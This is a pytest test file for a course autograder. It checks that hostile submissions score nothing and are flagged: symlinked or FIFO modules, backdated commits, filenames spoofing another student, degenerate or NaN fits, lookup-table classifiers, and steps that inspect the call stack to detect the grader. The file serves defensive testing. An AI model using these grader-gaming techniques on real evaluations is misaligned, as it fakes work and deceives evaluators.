                 "part gaussian: regrade 20.0, recorded at autograde 0.0, gradebook 0.0"):
        assert line in check.stdout, check.stdout


@NB_GROUP
def test_nbgrader_a_config_that_fails_to_load_runs_no_student_code(nbcourse_run):
    """nbgrader carries on with its defaults (a kernel per notebook) when the config raises: the
    course's kernel refuses to start under autograde, so the payload never runs (as root, or
    with the instructor's rights)."""
    course, run = nbcourse_run.course, nbcourse_run.run
    local = course / "nbgrader_config_local.py"
    before = _course_state(course)
    local.write_text("raise RuntimeError('a broken local config')\n")
    run.own(local)
    try:
        proc = _nb(run, course, "autograde", "mle", "--force", "--student", "payload", check=False, timeout=600)
    finally:
        local.unlink()
    assert proc.returncode != 0
    assert "refusing to run a student's notebook" in proc.stdout + proc.stderr
    assert _course_state(course) == before
    assert not (run.kit / f"nbgrader-pwned-{TOKEN}").exists()
    assert not (run.kit / "hidden_tests" / "mle" / "conftest.py").exists()


@pytest.mark.parametrize("user", ["root", "normal"])
def test_lms_download_a_linked_module_is_refused_by_name_and_earns_nothing(tmp_path, user):
    """A Canvas-named file that is a symlink to the kit's reference would score 100 if staging
    followed it; staging copies regular files only, and leaves a link that points nowhere in its
    place, so intake refuses it by name ("is a symbolic link"), not as a missing module."""
    folder = tmp_path / "download"
    folder.mkdir()
    (folder / "smithbob_340934_208490284_mle.py").symlink_to(REFERENCE)
    (folder / "doejane_120001_208490285_mle.py").write_text(reference_source("mle"))
    results = grade_folder("mle", folder, user=user)
    assert results["doejane_120001"]["score"] == 100
    linked = results["smithbob_340934"]
    assert linked["score"] == 0
    text = json.dumps(linked)
    assert LINKED in text and "missing module" not in text, text[:2000]
    assert "def gaussian_mle" not in text  # nothing of what the link points at


@pytest.mark.parametrize("user", ["root", "normal"])
def test_lms_download_a_fifo_module_is_refused_by_name_and_never_blocks(tmp_path, user):
    """A Moodle-named FIFO would hang a grader that opened it to copy or hash it (nobody writes
    to it); discovery and staging only lstat it and leave an empty FIFO in its place, so the
    run ends, the student is graded 0 with "is a FIFO", and the class beside it is unharmed."""
    run = runner(user)
    folder = (run.scratch_folder("lms-fifo") if run.scratch else tmp_path) / "download"
    folder.mkdir()
    os.mkfifo(folder / "Bob Smith_340934_assignsubmission_file_mle.py")
    (folder / "Jane Doe_120001_assignsubmission_file_mle.py").write_text(reference_source("mle"))
    run.own(folder)
    results = grade_folder("mle", folder, user=user)
    by_name = {k.split("-")[0]: v for k, v in results.items()}  # "Jane_Doe_120001-<hash>"
    assert by_name["Jane_Doe_120001"]["score"] == 100, sorted(results)
    piped = by_name["Bob_Smith_340934"]
    assert piped["score"] == 0
    text = json.dumps(piped)
    assert "is a FIFO" in text and "missing module" not in text, text[:2000]


# --- honest deadlines and linear intake (issue 19 §4-5) ---


def _collected(work):
    with open(work / "collected.csv", newline="", encoding="utf-8") as f:
        collected = {r["student"]: r for r in csv.DictReader(f)}
    with open(work / "gradebook-mle.csv", newline="", encoding="utf-8") as f:
        book = {r["student"]: r for r in csv.DictReader(f)}
    return collected, book


@pytest.mark.parametrize("user", ["root", "normal"])
def test_classroom_a_backdated_late_commit_is_not_graded_and_a_huge_file_is_not_checked_out(tmp_path, user):
    """Three student repositories, collected through the CLI with a fake GitHub push log on loopback:

    backdated  a stub pushed in time, then the reference made an hour late with GIT_COMMITTER_DATE
               set before the deadline (``git rev-list --before`` took it: 100). The push log says
               it was pushed late: the stub is graded and the row is flagged;
    unlogged   the same, but the server has no push log for it (404): the branch head is graded
               and the status says plainly that lateness was not verified;
    huge       the reference beside a 256 MiB file that packs to a few KiB: the file is left out
               by name (its size read from the tree), never written, and the module is graded.
    """
    from frontdoors.classroom.collect import MAX_CHECKOUT_FILE_BYTES
    from tests.fake_github import FakeGitHub, git_commit

    run = runner(user)
    base = run.scratch_folder("classroom") if run.scratch else tmp_path
    org = base / "org"
    ref, stub = reference_source("mle"), stub_source("mle")
    with FakeGitHub.serving() as gh:
        commits = {}
        for name in ("backdated", "unlogged"):
            on_time = git_commit(org / name, "2026-11-15T20:00:00+00:00", {"mle.py": stub})
            late = git_commit(org / name, "2026-11-15T23:00:00+00:00", {"mle.py": ref})   # made 00:59
            commits[name] = on_time, late
        gh.push("org/backdated", commits["backdated"][0], "2026-11-15T20:00:40+00:00")
        gh.push("org/backdated", commits["backdated"][1], "2026-11-16T00:59:10+00:00")
        huge = git_commit(org / "huge", "2026-11-14T10:00:00+00:00", {"mle.py": ref, "data.bin": 256 << 20})
        gh.push("org/huge", huge, "2026-11-14T10:00:30+00:00")
        run.own(base)
        work = base / "work"
        proc = run.run(["-m", "frontdoors.classroom.collect", "mle",
                        *((org / n).as_uri() for n in ("backdated", "unlogged", "huge")),
                        "--deadline", "2026-11-15 23:59 +0000", "--work", str(work), "--jobs", "2"],
                       timeout=1800, env=gh.env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    collected, book = _collected(work)
    total = {s: float(book[s]["total"]) for s in book}
    assert collected["backdated"]["commit"] == commits["backdated"][0], collected["backdated"]
    assert collected["backdated"]["date"] == "2026-11-15T20:00:40+00:00"   # the server's, not the student's
    assert commits["backdated"][1][:12] in collected["backdated"]["flags"]
    assert total["backdated"] == 0 and book["backdated"]["collection"].startswith("FLAGGED: commit ")
    assert collected["unlogged"]["commit"] == commits["unlogged"][1] and total["unlogged"] == 100
    for said in (collected["unlogged"]["status"], book["unlogged"]["collection"]):
        assert said.startswith("lateness not verified") and "HTTP 404" in said, said
    assert "data.bin is 256.0 MiB" in collected["huge"]["not_checked_out"] and total["huge"] == 100
    assert "data.bin is 256.0 MiB" in book["huge"]["collection"]
    assert not (work / "submissions" / "huge" / "data.bin").exists()
    assert all(f.stat().st_size <= MAX_CHECKOUT_FILE_BYTES for f in (work / "submissions").rglob("*") if f.is_file())
    assert gh.token not in (work / "collected.csv").read_text() + (work / "gradebook-mle.csv").read_text()


def _magic_notebook(size, magics, tail):
    """The reference as a notebook whose last cell is ``size`` bytes of code with ``magics`` IPython
    lines at its end (each one, rewritten one at a time, re-tokenised everything before it)."""
    body = "PAD = (1,\n" + "  2,\n" * (size // 5) + ")\n"
    return _notebook(("code", _HEAD), ("code", _TAIL), ("code", body + "%time PAD\n" * magics + tail))


_TIME_INTAKE = """
import sys, time
from autograder import intake
out = []
for folder in sys.argv[1:]:
    start = time.process_time()
    snap = intake.collect("mle", folder)
    out.append(f"{time.process_time() - start:.4f} {snap.problem or 'read'}")
print("\\n".join(out))
"""


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_notebook_of_a_large_cell_and_fifty_magics_is_read_in_bounded_time(tmp_path, user):
    """The 1.4 MiB cell with 50 magic lines is refused by name (more code than a notebook may hold)
    and a 0.9 MiB one is graded on its merits; the grader's intake of the 0.9 MiB notebook with 50
    magic lines takes at most 10 times its intake with one (the old per-line re-tokenising took ~50
    times), measured in the same test, as the grading user, in CPU time."""
    run = runner(user)
    base = run.scratch_folder("magics") if run.scratch else tmp_path
    klass = base / "class"
    notebooks = {"huge": _magic_notebook(1_400_000, 50, ""), "fifty": _magic_notebook(900_000, 50, ""),
                 "one": _magic_notebook(900_000, 1, "")}
    for name, data in notebooks.items():
        (klass / name).mkdir(parents=True)
        (klass / name / "mle.ipynb").write_bytes(data)
    run.own(base)
    proc = run.run(["-c", _TIME_INTAKE, *(str(klass / n) for n in ("one", "fifty", "huge"))], timeout=1800)
    assert proc.returncode == 0, proc.stderr[-3000:]
    (one, one_said), (fifty, fifty_said), (_, huge_said) = (
        line.split(" ", 1) for line in proc.stdout.strip().splitlines())
    assert one_said == fifty_said == "read"
    assert "more than 1.0 MiB of code" in huge_said and "mle.ipynb" in huge_said, huge_said
    assert float(fifty) <= 10 * float(one) + 0.5, (fifty, one)
    results = grade_folder("mle", klass, user=user)
    assert results["fifty"]["score"] == 100, json.dumps(results["fifty"])[:2000]
    huge = json.dumps(results["huge"])
    assert results["huge"]["score"] == 0 and "more than 1.0 MiB of code" in huge, huge[:2000]


# --- points only for work (issue 19 §2) ---

#: A gmm module whose fit fits nothing: it sets degenerate parameters (weights (1, 1e-300, …), zero
#: means, identity covariances) and every method the API asks for, for exactly those parameters.
#: While the model-API and BIC/AIC tests graded "the model's own fitted parameters", it earned 20.
DEGENERATE_GMM = '''

def _rows(X):
    X = np.asarray(X, dtype=float)
    return X[:, None] if X.ndim == 1 else X


def _degenerate_fit(self, X):
    n, d = _rows(X).shape
    K = int(self.n_components)
    self.weights_ = np.r_[1.0, np.full(K - 1, 1e-300)]
    self.means_ = np.zeros((K, d))
    self.covariances_ = {"full": np.tile(np.eye(d), (K, 1, 1)), "diag": np.ones((K, d)),
                         "spherical": np.ones(K)}[self.covariance_type]
    self.converged_, self.n_iter_, self.log_likelihood_history_ = True, 1, [0.0]
    self._rng = np.random.default_rng(self.random_state)
    return self


def _score_samples(self, X):
    X = _rows(X)
    return -0.5 * (X ** 2).sum(1) - 0.5 * X.shape[1] * np.log(2 * np.pi)


def _p(self):
    K, d = self.means_.shape
    return K - 1 + K * d + {"full": K * d * (d + 1) // 2, "diag": K * d, "spherical": K}[self.covariance_type]


GaussianMixtureEM.fit = _degenerate_fit
GaussianMixtureEM.predict_proba = lambda self, X: np.eye(len(self.weights_))[np.zeros(len(_rows(X)), int)]
GaussianMixtureEM.predict = lambda self, X: np.zeros(len(_rows(X)), dtype=int)
GaussianMixtureEM.score_samples = _score_samples
GaussianMixtureEM.score = lambda self, X: float(np.mean(_score_samples(self, X)))
GaussianMixtureEM.sample = lambda self, n_samples=1: (
    self._rng.standard_normal((n_samples, self.means_.shape[1])), np.zeros(n_samples, dtype=int))
GaussianMixtureEM.bic = lambda self, X: float(-2 * _score_samples(self, X).sum() + _p(self) * np.log(len(_rows(X))))
GaussianMixtureEM.aic = lambda self, X: float(-2 * _score_samples(self, X).sum() + 2 * _p(self))
'''
GMM_MODEL_API = ("test_predict_proba_and_predict", "test_score_samples_and_score",
                 "test_sample_shapes_and_reproducible", "test_sample_statistics_full",
                 "test_sample_statistics_diag", "test_sample_statistics_spherical",
                 "test_sample_successive_calls_differ", "test_bic_aic")


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_gmm_fit_that_only_sets_degenerate_parameters_earns_nothing(tmp_path, user):
    """The model-API and BIC/AIC tests grade a model built from parameters the grader chose
    (weights_init, means_init, covariances_init, max_iter=0), so a fit that sets parameters of its
    own choosing, with methods that are right for those alone, earns none of their 20 points."""
    folder = tmp_path / "class"
    write(folder / "reference", "gmm", reference_source("gmm"))
    write(folder / "degenerate", "gmm", stub_source("gmm") + DEGENERATE_GMM)
    results = grade_folder("gmm", folder, user=user)
    assert results["reference"]["score"] == 100
    degenerate = results["degenerate"]
    earned = {name: entry(degenerate, "gmm", name)["score"] for name in GMM_MODEL_API}
    assert earned == dict.fromkeys(GMM_MODEL_API, 0), earned
    assert degenerate["score"] == 0
    assert "must hold the given" in entry(degenerate, "gmm", "test_bic_aic")["output"]


#: GaussianMixtureEM.fit's tests: carried-forward points there must be earned by code that composes
GMM_FIT_TESTS = ("test_stopping_rule", "test_fit_history", "test_fit_matches_sklearn_full",
                 "test_fit_matches_sklearn_diag", "test_fit_matches_sklearn_spherical", "test_old_faithful",
                 "test_fit_duplicated_points")

# A "fit" that does nothing: it keeps the parameters it was given (or what its m_step makes of nothing)
# and writes a history of two equal entries, as if EM had converged at once.
_NEAR_EMPTY_FIT = """

def _near_empty_fit(self, X):
    X = np.asarray(X, dtype=float)
    X = X[:, None] if X.ndim == 1 else X
    k = int(self.n_components)
    if _KEEP_START and self.weights_init is not None and self.means_init is not None \
            and self.covariances_init is not None:
        params = (np.asarray(self.weights_init, float), np.asarray(self.means_init, float),
                  np.asarray(self.covariances_init, float))
    else:
        params = m_step(X, np.full((len(X), k), 1.0 / k), self.covariance_type, self.reg_covar)
    self.weights_, self.means_, self.covariances_ = params
    ll = float(e_step(X, *params, self.covariance_type)[1])
    self.log_likelihood_history_ = [ll, ll]
    self.n_iter_, self.converged_ = 2, True
    return self


GaussianMixtureEM.fit = _near_empty_fit
"""

# 1. Components that do no work: an e_step whose answer ignores the parameters, an m_step whose
#    answer ignores the responsibilities. Both fail their own tests; the reference's loop on them
#    matches the near-empty fit, but they answer the same whatever their input.
CONSTANT_COMPONENTS = """

_reference_m_step = m_step


def e_step(X, weights, means, covariances, covariance_type="full"):
    X = np.asarray(X, dtype=float)
    k = len(np.asarray(weights))
    return np.full((len(X), k), 1.0 / k), 0.0


def m_step(X, resp, covariance_type="full", reg_covar=1e-6):
    resp = np.asarray(resp, dtype=float)
    return _reference_m_step(X, np.full(resp.shape, 1.0 / resp.shape[1]), covariance_type, reg_covar)


_KEEP_START = False  # what the loop on these components ends at: m_step's answer
""" + _NEAR_EMPTY_FIT

# 2. Components that respond to every input, but only when the grader calls them (they look at the
#    call stack): e_step hides the parameters in the responsibilities and m_step reads them back, so
#    the reference's loop on them stands still at its start, which is what the near-empty fit
#    reports. When the student's own code calls them they are the reference's.
FIXED_POINT_COMPONENTS = """

import sys as _sys

_reference_e_step, _reference_m_step = e_step, m_step


def _called_by_the_grader():
    frame = _sys._getframe(2)
    return frame.f_globals.get("__name__") != __name__


def e_step(X, weights, means, covariances, covariance_type="full"):
    if not _called_by_the_grader():
        return _reference_e_step(X, weights, means, covariances, covariance_type)
    X = np.asarray(X, dtype=float)
    k = len(np.asarray(weights))
    hidden = np.concatenate([np.ravel(weights), np.ravel(means), np.ravel(covariances)]).astype(float)
    resp = np.zeros((len(X), k))
    resp.flat[:hidden.size] = hidden
    return resp, float(np.sum(means) + np.sum(covariances) + np.sum(weights))


def m_step(X, resp, covariance_type="full", reg_covar=1e-6):
    if not _called_by_the_grader():
        return _reference_m_step(X, resp, covariance_type, reg_covar)
    X = np.asarray(X, dtype=float)
    d = 1 if X.ndim == 1 else X.shape[1]
    resp = np.asarray(resp, dtype=float)
    k = resp.shape[1]
    flat = resp.ravel()
    shape = {"full": (k, d, d), "diag": (k, d), "spherical": (k,)}[covariance_type]
    size = int(np.prod(shape))
    return flat[:k], flat[k:k + k * d].reshape(k, d), flat[k + k * d:k + k * d + size].reshape(shape)


_KEEP_START = True  # what the loop on these components ends at: the start
""" + _NEAR_EMPTY_FIT

# 3. Every component raises (an unwritten stub throughout): nothing can be carried from an error.
RAISING_COMPONENTS = """

def _raises(*args, **kwargs):
    raise RuntimeError("not written yet")


log_gaussian_prob = e_step = m_step = kmeans = n_parameters = _raises
"""


@pytest.mark.parametrize("user", ["root", "normal"])
def test_carried_forward_points_are_earned_only_by_code_that_composes(tmp_path, user):
    """Error carried forward credits a test on the student's own failed functions only when the
    student's code does the composing: components that answer the same whatever their input, or
    that make the reference's loop stand still at its start (here by hiding the parameters in the
    responsibilities, and only when the grader calls them), or that raise, carry nothing to a fit
    that does nothing; an honest single mistake (the −½·log|Σ| term dropped) carries. (Their
    select_n_components, the reference's arg-min over their own models, may earn its points on
    their models: that part of their code is right.)"""
    from samples.submissions import catalogue

    folder = tmp_path / "class"
    write(folder / "constants", "gmm", reference_source("gmm") + CONSTANT_COMPONENTS)
    write(folder / "fixed_point", "gmm", reference_source("gmm") + FIXED_POINT_COMPONENTS)
    write(folder / "raising", "gmm", reference_source("gmm") + RAISING_COMPONENTS)
    honest = next(b for b in catalogue("gmm") if b.name == "log_determinant_dropped")
    write(folder / "honest", "gmm", apply("gmm", honest))
    results = grade_folder("gmm", folder, user=user)
    for name in ("constants", "fixed_point", "raising"):
        res = results[name]
        earned = {t: entry(res, "gmm", t)["score"] for t in GMM_FIT_TESTS}
        assert earned == dict.fromkeys(GMM_FIT_TESTS, 0), (name, earned)
        numbers = {str(i) for i, t in enumerate(res["tests"], 1) if any(t["name"] == entry(res, "gmm", f)["name"]
                                                                       for f in GMM_FIT_TESTS)}
        assert not numbers & set(res["autograder"]["carried"]), (name, res["autograder"]["carried"])
    assert "Not carried forward" in entry(results["constants"], "gmm", "test_fit_matches_sklearn_full")["output"]
    stood_still = entry(results["fixed_point"], "gmm", "test_fit_matches_sklearn_full")["output"]
    assert "the loop stood still" in stood_still, stood_still
    # the honest mistake: charged in its own test, its fit carried forward (and said so)
    res = results["honest"]
    assert entry(res, "gmm", "test_log_gaussian_prob_full")["score"] == 0
    fit = entry(res, "gmm", "test_fit_matches_sklearn_full")
    assert fit["score"] == fit["max_score"] and fit["output"].startswith("Passed on your own log_gaussian_prob")
    assert res["autograder"]["carry_forward"] is True and res["autograder"]["carried"]


# 4. (bmm) Every step answers NaN and fit sets NaN parameters: the reference's loop on those steps
#    gives NaN too, and bmm's tests compare a NaN of the student's own steps with a NaN; but NaN is no
#    evidence of work, and some replaced function must give a finite answer that moves. (Found by
#    the red team's follow-up: before that rule, and while a test of BernoulliMixture could carry
#    through the student's own BernoulliMixture — its fit compared with itself — it earned 4 points.)
NAN_BMM = """

def bernoulli_log_prob(X, probs):
    X = np.asarray(X, dtype=float)
    return np.full((len(X), len(np.asarray(probs))), np.nan)


def bmm_e_step(X, weights, probs):
    X = np.asarray(X, dtype=float)
    return np.full((len(X), len(np.asarray(weights))), np.nan), float("nan")


def bmm_m_step(X, resp, alpha=1.0):
    X = np.asarray(X, dtype=float).reshape(len(X), -1)
    k = np.asarray(resp).shape[1]
    return np.full(k, np.nan), np.full((k, X.shape[1]), np.nan)


_bernoulli_log_prob, _e_step, _m_step = bernoulli_log_prob, bmm_e_step, bmm_m_step


def _nan_fit(self, X, y=None):
    X = np.asarray(X, dtype=float).reshape(len(X), -1)
    k = int(self.n_components)
    self.weights_, self.probs_ = np.full(k, np.nan), np.full((k, X.shape[1]), np.nan)
    self.log_likelihood_history_ = [float("nan")] * 2
    self.n_iter_, self.converged_ = 2, False
    return self


BernoulliMixture.fit = _nan_fit
"""


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_bmm_whose_steps_answer_nan_carries_nothing(tmp_path, user):
    """NaN everywhere (steps and fit) earns only the parts it did not touch (binarize, cluster accuracy)."""
    folder = tmp_path / "class"
    write(folder / "nan", "bmm", reference_source("bmm") + NAN_BMM)
    res = grade_folder("bmm", folder, user=user)["nan"]
    assert res["autograder"]["carried"] == {}, res["autograder"]["carried"]
    earned = {t["name"]: t["score"] for t in res["tests"] if t["score"] > 0}
    assert all(name.startswith(("binarize", "cluster_accuracy")) for name in earned), earned


def _lookup_bmm(images, labels):
    """The bmm reference whose classifier learns nothing: fit keeps classes_, and predict looks each
    binarised image up in a table of (images, labels) pasted into the module (compressed)."""
    import base64
    import zlib

    import numpy as np

    bits = np.packbits((images / 255.0 > 0.5).reshape(len(images), -1), axis=1)
    pack = lambda a: base64.b64encode(zlib.compress(np.ascontiguousarray(a).tobytes(), 9)).decode()
    return reference_source("bmm") + f'''

import base64 as _b64
import zlib as _zlib

_BITS = np.frombuffer(_zlib.decompress(_b64.b64decode("{pack(bits)}")), np.uint8).reshape(-1, {bits.shape[1]})
_LABELS = np.frombuffer(_zlib.decompress(_b64.b64decode("{pack(labels.astype(np.uint8))}")), np.uint8)
_TABLE = {{bytes(b): int(y) for b, y in zip(_BITS, _LABELS)}}


def _lookup_fit(self, X, y):
    self.classes_ = np.unique(y)
    return self


def _lookup_predict(self, X):
    keys = np.packbits(np.asarray(X).reshape(len(X), -1) > 0.5, axis=1)
    return np.array([_TABLE.get(bytes(k), self.classes_[0]) for k in keys])


BernoulliMixtureClassifier.fit = _lookup_fit
BernoulliMixtureClassifier.predict = _lookup_predict
'''


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_bmm_predict_that_looks_images_up_earns_nothing_on_accuracy(tmp_path, user):
    """The accuracy test predicts the grader's held-out MNIST images, which no handout ships: a
    predict that looks images up in a table of everything the handout holds earns none of its
    points. The control — the same lookup with the grader's own 5,000 pasted in, as a student
    would have had them when the handout shipped them all — earns them all, so the table works."""
    from datasets import load_mnist_5k, load_mnist_subset

    folder = tmp_path / "class"
    write(folder / "handout_table", "bmm", _lookup_bmm(*load_mnist_subset()))
    write(folder / "control_all_5000", "bmm", _lookup_bmm(*load_mnist_5k()))
    for name in ("handout_table", "control_all_5000"):
        assert (folder / name / "bmm.py").stat().st_size < 1 << 20  # under intake's cap: graded, not refused
    results = grade_folder("bmm", folder, user=user)
    accuracy = entry(results["handout_table"], "bmm", "test_accuracy")
    assert accuracy["score"] == 0, accuracy
    assert "held-out" in accuracy["output"]
    control = entry(results["control_all_5000"], "bmm", "test_accuracy")
    assert control["score"] == control["max_score"], control


#: The same for bmm: a BernoulliMixture whose fit sets weights (1, 1e-300, …) and probs ½, and a
#: classifier whose predict_proba is uniform (so every label is an arg-max); it earned 17 points
#: on tests that graded the model's own state (the penalised objective of constant parameters
#: never decreases, either).
DEGENERATE_BMM = '''

def _rows(X):
    X = np.asarray(X, dtype=float)
    return X.reshape(len(X), -1)


def _degenerate_fit(self, X):
    n, d = _rows(X).shape
    K = int(self.n_components)
    self.weights_ = np.r_[1.0, np.full(K - 1, 1e-300)]
    self.probs_ = np.full((K, d), 0.5)
    self.converged_, self.n_iter_, self.log_likelihood_history_ = True, 1, [0.0]
    self._rng = np.random.default_rng(self.random_state)
    return self


def _score_samples(self, X):
    X = _rows(X)
    return np.full(len(X), X.shape[1] * np.log(0.5))


BernoulliMixture.fit = _degenerate_fit
BernoulliMixture.predict_proba = lambda self, X: np.eye(len(self.weights_))[np.zeros(len(_rows(X)), int)]
BernoulliMixture.predict = lambda self, X: np.zeros(len(_rows(X)), dtype=int)
BernoulliMixture.score_samples = _score_samples
BernoulliMixture.score = lambda self, X: float(np.mean(_score_samples(self, X)))
BernoulliMixture.sample = lambda self, n_samples=1: (
    (self._rng.random((n_samples, self.probs_.shape[1])) < 0.5).astype(float), np.zeros(n_samples, dtype=int))


def _classifier_fit(self, X, y):
    self.classes_ = np.unique(y)
    self.class_log_prior_ = np.full(len(self.classes_), -np.log(len(self.classes_)))
    self.mixtures_ = []
    return self


BernoulliMixtureClassifier.fit = _classifier_fit
BernoulliMixtureClassifier.predict_proba = lambda self, X: np.full((len(_rows(X)), len(self.classes_)),
                                                                   1 / len(self.classes_))
BernoulliMixtureClassifier.predict = lambda self, X: np.full(len(_rows(X)), self.classes_[0])
BernoulliMixtureClassifier.score = lambda self, X, y: float(np.mean(self.predict(X) == np.asarray(y)))
'''
BMM_MODEL_API = ("test_penalized_objective_never_decreases", "test_mixture_predictions", "test_mixture_sample",
                 "test_sample_successive_calls_differ", "test_predict_labels")


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_bmm_fit_that_only_sets_degenerate_parameters_earns_nothing(tmp_path, user):
    """bmm's model tests grade the model's own parameters only once they are a fit (one EM iteration
    from the given start, by the spec's steps or the student's own), and the classifier's predictions
    only when they beat chance as a fit does: the degenerate module earns none of those 17 points."""
    folder = tmp_path / "class"
    write(folder / "degenerate", "bmm", stub_source("bmm") + DEGENERATE_BMM)
    results = grade_folder("bmm", folder, user=user)
    degenerate = results["degenerate"]
    earned = {name: entry(degenerate, "bmm", name)["score"] for name in BMM_MODEL_API}
    assert earned == dict.fromkeys(BMM_MODEL_API, 0), earned
    assert degenerate["score"] == 0
    assert "not one EM iteration" in entry(degenerate, "bmm", "test_mixture_predictions")["output"]
    assert "halfway" in entry(degenerate, "bmm", "test_predict_labels")["output"]


#: A classifier whose fit keeps the training rows and whose sample hands them back: the judge
#: (BernoulliNB on those rows) takes them for their label, so it earned the sample test's 5 points.
MEMORISING_BMM = '''

def _memo_fit(self, X, y):
    X, y = np.asarray(X, dtype=float), np.asarray(y)
    self.classes_ = np.unique(y)
    self._rows = {c: X[y == c] for c in self.classes_}
    return self


BernoulliMixtureClassifier.fit = _memo_fit
BernoulliMixtureClassifier.sample = lambda self, n_samples, label: (
    self._rows[label][np.arange(n_samples) % len(self._rows[label])])
'''


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_bmm_classifier_that_samples_its_training_images_earns_nothing_on_sampling(tmp_path, user):
    folder = tmp_path / "class"
    write(folder / "memorising", "bmm", reference_source("bmm") + MEMORISING_BMM)
    results = grade_folder("bmm", folder, user=user)
    sample = entry(results["memorising"], "bmm", "test_classifier_sample")
    assert sample["score"] == 0 and "training images, pixel for pixel" in sample["output"], sample


# --- grades no one else can touch (issue 19 §3) ---


def _class_folder(user, tmp_path, label):
    """(runner, a fresh class folder that ``user`` owns): built in place, graded where it lies."""
    run = runner(user)
    folder = (run.scratch_folder(label) if run.scratch else tmp_path) / "class"
    folder.mkdir()
    return run, folder


def _grade_all(run, folder, *extra):
    """Run ``grade-all mle`` on ``folder`` as ``run``'s user, keeping its results beside the folder.

    Returns (the process, the gradebook's rows by student, {stem: results.json}); a re-run
    on the same folder resumes from the same results folder.
    """
    run.own(folder)
    out = folder.parent / "results"
    book = folder.parent / "gradebook.csv"
    proc = run.run(["-m", "autograder", "grade-all", "mle", str(folder), "--jobs", "2",
                    "--results-dir", str(out), "--csv", str(book), *extra], timeout=1800)
    assert proc.returncode == 0, proc.stderr[-3000:]
    with open(book, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0][:3] == ["student", "total", "reason"]
    return proc, {r[0]: r for r in rows[1:]}, {p.stem: json.loads(p.read_text()) for p in out.glob("*.json")}


@pytest.mark.parametrize("user", ["root", "normal"])
def test_lms_file_naming_another_student_is_given_to_no_one_and_named_in_the_gradebook(tmp_path, user):
    """Mallory uploads ``x_jdoe_attempt_2099-12-31-23-59-59_mle.py`` (a stub): Blackboard names it
    ``Homework 1_mallory_attempt_<stamp>_x_jdoe_attempt_2099-…``, which the old name pattern read
    as jdoe's latest attempt, so jdoe was graded on mallory's file. A name that reads as two
    students', a Blackboard assignment holding ``_attempt_`` again or an attempt dated in the
    future is now a gradebook row of its own, with the reason, given to no student."""
    run, folder = _class_folder(user, tmp_path, "lms-two-names")
    (folder / "Homework 1_jdoe_attempt_2026-05-01-12-00-00_mle.py").write_text(reference_source("mle"))
    (folder / "Homework 1_jdoe_attempt_2026-05-01-12-00-00.txt").write_text("receipt")
    hostile = ["Homework 1_mallory_attempt_2026-05-02-12-00-00_x_jdoe_attempt_2099-12-31-23-59-59_mle.py",
               "x_jdoe_attempt_2099-12-31-23-59-59_mle.py",
               "Homework_attempt_1_jdoe_attempt_2026-05-03-12-00-00_mle.py",
               "smithbob_340934_208490284_x_jdoe_attempt_2026-05-04-12-00-00_mle.py",
               "Jane Doe_12345_assignsubmission_file_x_jdoe_attempt_2026-05-05-12-00-00_mle.py"]
    for name in hostile:
        (folder / name).write_text(stub_source("mle"))
    _, rows, results = _grade_all(run, folder)
    assert rows["jdoe"][1] == "100" and results["jdoe"]["score"] == 100, rows.get("jdoe")
    for name in hostile:
        assert name in rows, (name, sorted(rows))
        assert rows[name][1] == "" and "given to no student" in rows[name][2], rows[name]
    assert set(rows) == {"jdoe", *hostile}  # nobody else: neither dropped nor given to mallory


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_student_named_like_the_class_state_never_makes_a_rerun_regrade_with_a_new_seed(tmp_path, user):
    """A folder named ``class`` kept its state in ``.grade-all/class.json``, where grade-all keeps
    the class's seed: every re-run then drew a new seed and regraded the whole class. Students'
    state now lives in ``.grade-all/students/``: the re-run keeps the seed and regrades nothing."""
    run, folder = _class_folder(user, tmp_path, "state-name")
    for name in ("class", "ada", "students"):
        write(folder / name, "mle", reference_source("mle"))
    first, rows, _ = _grade_all(run, folder)
    seed = re.search(r"with seed (\d+)", first.stderr)[1]
    assert {r[1] for r in rows.values()} == {"100"}, rows
    again, rows, _ = _grade_all(run, folder)
    assert f"Grading 0 submissions of mle with seed {seed} (the previous run's)" in again.stderr, again.stderr
    assert "3 unchanged" in again.stderr and {r[1] for r in rows.values()} == {"100"}


@pytest.mark.parametrize("user", ["root", "normal"])
def test_names_that_look_alike_are_different_students(tmp_path, user):
    """Students are keyed by their raw folder names: names the cleaning shows alike (an ESC and
    a written ``\\x1b``), names whose file stems coincide (``a b`` and the tame ``a_b-<hash>``
    the old stem of ``a b`` was), the two Unicode normalisations of ``José`` and two names that
    differ in case only are each their own row with their own results and feedback page."""
    run, folder = _class_folder(user, tmp_path, "alike")
    old_stem = "a_b-" + hashlib.sha256(b"a b").hexdigest()[:8]
    pairs = [("a\x1bb", "a\\x1bb"), ("a b", old_stem), ("Jos\u00e9", "Jose\u0301"), ("Zoe", "zoe")]
    for good, bad in pairs:
        write(folder / good, "mle", reference_source("mle"))
        write(folder / bad, "mle", stub_source("mle"))
    feedback = folder.parent / "feedback"
    _, rows, results = _grade_all(run, folder, "--feedback", str(feedback))
    assert len(rows) == 8 and len(results) == 8, (sorted(rows), sorted(results))
    assert sorted(r[1] for r in rows.values()).count("100") == 4, rows
    assert sorted(r["score"] for r in results.values()).count(100) == 4
    pages = [p for p in feedback.glob("*.html") if p.name != "class.html"]
    assert len(pages) == 8 and len({p.name.lower() for p in pages}) == 8, sorted(p.name for p in pages)
    assert sum("100 / 100" in p.read_text() for p in pages) == 4


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_change_the_old_resume_hash_missed_is_regraded(tmp_path, user):
    """The old resume hash stopped after 2000 files: a submission with 2001 files in ``aaa/``
    and its module in ``zz/mle.py`` (which intake grades) kept its old grade when the module
    changed. The hash is now the intake's own snapshot: the changed module is regraded."""
    run, folder = _class_folder(user, tmp_path, "resume-hash")
    junk = folder / "ada" / "aaa"
    junk.mkdir(parents=True)
    for i in range(2001):
        (junk / f"f{i:04d}.txt").write_text("")
    write(folder / "ada" / "zz", "mle", stub_source("mle"))
    _, rows, _ = _grade_all(run, folder, "--seed", str(SEED))
    assert rows["ada"][1] != "100", rows["ada"]
    (folder / "ada" / "zz" / "mle.py").write_text(reference_source("mle"))
    again, rows, _ = _grade_all(run, folder, "--seed", str(SEED))
    assert "Grading 1 submissions" in again.stderr, again.stderr
